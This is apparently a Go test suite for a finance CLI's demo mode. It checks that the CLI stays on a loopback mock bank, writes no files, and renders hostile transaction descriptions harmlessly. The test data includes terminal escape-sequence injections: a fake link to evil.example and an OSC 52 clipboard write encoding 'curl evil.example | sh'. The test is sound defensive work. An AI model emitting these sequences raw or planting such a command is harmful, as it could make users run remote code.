package main

import (
	"encoding/json"
	"net"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"
)

// TestBankDemoSummary: penny demo --bank outside a terminal connects to the
// bank in the box, syncs, lets the bank move on and syncs again, and prints
// its network log; every connection went to that one loopback address, no
// raw byte of the bank's hostile descriptions reached the output, and no
// file was written.
func TestBankDemoSummary(t *testing.T) {
	t.Parallel()
	env := testEnv(t)
	rec := &dialRecorder{}
	out, code := runIn(t, env, netHooks{dial: rec.dial}, "", "demo", "--bank")
	if code != 0 {
		t.Fatalf("exit %d\n%s", code, out)
	}
	for _, want := range []string{"A bank in the box", "Connected demo-bank (simplefin at 127.0.0.1:",
		"demo-bank: synced (2 request(s); 20 of 24 left for today)", "Everyday Checking (new account)", "Girokonto (new account)",
		"balance 19,359.30 EUR matches the bank", "alert: Possible duplicate charge on Visa Signature",
		"the pending coffee posted with a tip", "1 pending posted", "LYFT *RIDE (pending)",
		"5 of 24 requests used", "/simplefin/claim/…", "Nothing was written to disk"} {
		if !strings.Contains(out, want) {
			t.Errorf("output lacks %q:\n%s", want, out)
		}
	}
	if rawTerminalBytes(out) {
		t.Errorf("raw escape or bidi bytes in the output:\n%q", out)
	}
	if len(rec.addrs) == 0 {
		t.Fatal("no connection recorded")
	}
	for _, a := range rec.addrs {
		host, _, err := net.SplitHostPort(a)
		if err != nil || host != "127.0.0.1" || a != rec.addrs[0] {
			t.Errorf("connected to %s (the first was %s)", a, rec.addrs[0])
		}
	}
	// The network log, as printed: five requests, all to the bank's
	// address, all answered.
	var logged int
	for _, l := range strings.Split(out, "\n") {
		if strings.Contains(l, "demo-bank  GET ") || strings.Contains(l, "demo-bank  POST ") {
			logged++
			if !strings.Contains(l, rec.addrs[0]+"/simplefin/") || !strings.Contains(l, " 200 ") {
				t.Errorf("network log line %q", l)
			}
		}
	}
	if logged != 5 {
		t.Errorf("%d network log lines, want claim, balances, two windows and one more sync", logged)
	}
	err := filepath.Walk(env["HOME"], func(p string, info os.FileInfo, err error) error {
		if err == nil && !info.IsDir() {
			t.Errorf("the demo wrote %s", p)
		}
		return err
	})
	if err != nil {
		t.Fatal(err)
	}

	out, code = runIn(t, env, netHooks{}, "", "demo", "--bank", "--json")
	var doc struct {
		Accounts []struct{ Name string } `json:"accounts"`
	}
	if err := json.Unmarshal([]byte(out), &doc); code != 0 || err != nil || len(doc.Accounts) != 4 {
		t.Errorf("--json: exit %d, %v, %+v\n%s", code, err, doc, out)
	}
}

// TestBankDemoInTmux runs penny demo --bank in a terminal: the synced
// accounts are on screen; "sync now" fetches what the bank did since (its
// status line, then a delivery charged twice, the alert and the card's new
// balance); at the end the network log shows only the loopback bank.
func TestBankDemoInTmux(t *testing.T) {
	t.Parallel()
	env := testEnv(t)
	s := newTmux(t, 140, 40, shellEnv(env)+" "+pennyBin+" demo --bank; echo EXIT=$?; sleep 30")
	s.waitFor("Ask Penny")
	scr := s.waitFor("type \"sync now\"")
	for _, want := range []string{"Everyday Checking", "High Yield Savings", "Visa Signature", "-646.63 USD", "Girokonto", "EUR"} {
		if !strings.Contains(scr, want) {
			t.Errorf("the screen lacks %q:\n%s", want, scr)
		}
	}
	sync := func() {
		s.run("send-keys", "-t", s.name, "-l", "sync now")
		s.run("send-keys", "-t", s.name, "Enter")
	}
	sync()
	s.waitFor("Synced demo-bank: 3 new")
	sync()
	s.waitWithin(30*time.Second, "New alert: Possible duplicate charge on Visa Signature")
	s.waitFor("-737.38 USD")
	// The checking account, two chats down, holds the bank's hostile
	// descriptions: they show as inert symbols (a colour code or a link
	// the terminal obeyed would leave no trace on the screen), and no raw
	// byte is there.
	s.run("send-keys", "-t", s.name, "C-j")
	s.run("send-keys", "-t", s.name, "C-j")
	s.waitFor("Penny demo · Everyday Checking")
	scr = s.waitFor("TRADER JOE'S #552")
	for _, want := range []string{"␛[31mURGENT␛[0m CALL 555-0100", "␛]8;;https://evil.example/␛\\PAYPAL *REFUND", "␛]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==␇COPY SHOP"} {
		if !strings.Contains(scr, want) {
			t.Errorf("the screen lacks %q:\n%s", want, scr)
		}
	}
	if rawTerminalBytes(strings.ReplaceAll(scr, "\n", "")) {
		t.Errorf("the screen holds raw bytes:\n%q", scr)
	}
	s.run("send-keys", "-t", s.name, "C-c")
	scr = s.waitFor("EXIT=0")
	requests := 0
	for _, l := range strings.Split(scr, "\n") {
		// WHEN SOURCE METHOD HOST/PATH STATUS ...
		f := strings.Fields(l)
		if i := slices.Index(f, "demo-bank"); i >= 0 && len(f) > i+3 && (f[i+1] == "GET" || f[i+1] == "POST") {
			requests++
			if !strings.HasPrefix(f[i+2], "127.0.0.1:") || f[i+3] != "200" {
				t.Errorf("network log line %q", l)
			}
		}
	}
	if requests != 6 || !strings.Contains(scr, "6 of 24 requests used") {
		t.Errorf("%d requests in the network log, want claim, balances, two windows and two syncs:\n%s", requests, scr)
	}
}
